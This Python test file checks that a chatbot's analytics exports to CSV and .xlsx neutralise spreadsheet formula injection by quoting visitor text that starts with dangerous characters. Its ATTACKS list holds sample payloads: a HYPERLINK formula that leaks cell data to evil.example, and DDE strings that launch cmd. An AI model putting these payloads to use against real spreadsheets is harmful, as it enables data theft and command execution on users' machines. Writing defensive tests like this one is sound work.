"""Exports are safe to open in a spreadsheet: no visitor text becomes a formula, "£" survives.

Messages starting with each character OWASP lists (``= + - @``, tab, carriage return)
are stored as turns in a real database (SQLite and PostgreSQL), then every export that
carries visitor text is written by the code the dashboard and ``bot export`` use and
read back: the CSV as Excel reads it (UTF-8 because of the byte-order mark), the .xlsx
from its own XML, where a formula would be an ``<f>`` element.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime
from xml.etree import ElementTree

import pytest
import sqlalchemy as sa

from bot.analytics.export import export_turns
from bot.analytics.filters import Filters
from bot.analytics.formats import render_csv
from bot.analytics.metrics import full_report
from bot.analytics.rollups.refresh import refresh_rollups
from bot.analytics.spreadsheet import FORMULA_STARTS, safe_cell
from bot.storage.database import create_engine
from bot.storage.models import Conversation, Turn
from bot.web.staff.tables import write_csv, write_xlsx

DAY = date(2025, 3, 4)
ATTACKS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
POUND = "Is £50 a month too much for backups?"
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def _store(url: str) -> None:
    engine = create_engine(url)
    with engine.begin() as conn:
        conn.execute(sa.insert(Conversation.__table__).values(
            conversation_key="c" * 64, visitor_key="v" * 64, channel="rest",
            started_at=datetime(2025, 3, 4, 9), last_at=datetime(2025, 3, 4, 10),
            user_turns=len(ATTACKS) + 1))
        for number, text in enumerate([*ATTACKS, POUND], start=1):
            conn.execute(sa.insert(Turn.__table__).values(
                event_id=number, conversation_key="c" * 64, visitor_key="v" * 64,
                at=datetime(2025, 3, 4, 9, number), week=date(2025, 3, 3), channel="rest", text=text,
                intent="nlu_fallback", fallback=text != POUND))
        refresh_rollups(conn, full=True)
    engine.dispose()


def _xlsx_cells(data: bytes) -> tuple[list[str], int]:
    """Every cell's text in the first sheet, and how many cells hold a formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        shared = [("".join(t.text or "" for t in item.iter(f"{MAIN}t")))
                  for item in ElementTree.fromstring(book.read("xl/sharedStrings.xml")).iter(f"{MAIN}si")] \
            if "xl/sharedStrings.xml" in book.namelist() else []
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    texts: list[str] = []
    formulas = 0
    for cell in sheet.iter(f"{MAIN}c"):
        formulas += len(list(cell.iter(f"{MAIN}f")))
        value = cell.find(f"{MAIN}v")
        if cell.get("t") == "s" and value is not None and value.text is not None:
            texts.append(shared[int(value.text)])
        elif cell.get("t") == "inlineStr":
            texts.append("".join(t.text or "" for t in cell.iter(f"{MAIN}t")))
    return texts, formulas


def _dangerous(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def test_the_rule_prefixes_exactly_the_dangerous_starts() -> None:
    assert [safe_cell(text) for text in ATTACKS] == ["'" + text for text in ATTACKS]
    assert safe_cell("How do I back up?") == "How do I back up?"
    assert safe_cell("a=b") == "a=b"
    assert safe_cell(-3) == -3 and safe_cell(0.25) == 0.25  # numbers stay numbers


@pytest.mark.parametrize("table", ["turns", "unanswered"])
def test_csv_and_xlsx_downloads_hold_no_formula(analytics_url: str, table: str) -> None:
    _store(analytics_url)
    filters = Filters(DAY, DAY)
    engine = create_engine(analytics_url)
    try:
        with engine.connect() as conn:
            text = io.StringIO(newline="")
            rows = write_csv(conn, table, filters, text)
            binary = io.BytesIO()
            assert write_xlsx(conn, table, filters, binary) == rows
    finally:
        engine.dispose()
    raw = text.getvalue().encode("utf-8")
    assert raw.startswith(b"\xef\xbb\xbf")  # the byte-order mark Excel needs for UTF-8
    cells = [cell for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"))) for cell in row]
    assert cells[0] != "" and not cells[0].startswith("\ufeff")
    assert not [cell for cell in cells if _dangerous(cell)]
    if table == "turns":  # one cell per message, each kept whole behind its quote
        assert [cell for cell in cells if cell.startswith("'")] == ["'" + attack for attack in ATTACKS]
    xlsx_texts, formulas = _xlsx_cells(binary.getvalue())
    assert formulas == 0
    assert not [cell for cell in xlsx_texts if _dangerous(cell)]
    assert any(cell.startswith("'=HYPERLINK") for cell in xlsx_texts)
    if table == "turns":
        assert POUND in cells and POUND in xlsx_texts


def test_cli_exports_are_neutralised_too(analytics_url: str) -> None:
    _store(analytics_url)
    filters = Filters(DAY, DAY)
    engine = create_engine(analytics_url)
    try:
        with engine.connect() as conn:
            out = io.StringIO(newline="")
            export_turns(conn, filters, out)
            report = render_csv(full_report(conn, filters))
    finally:
        engine.dispose()
    for written in (out.getvalue(), report):
        cells = [cell for row in csv.reader(io.StringIO(written)) for cell in row]
        assert not [cell for cell in cells if _dangerous(cell)]
    assert "'=HYPERLINK" in out.getvalue()
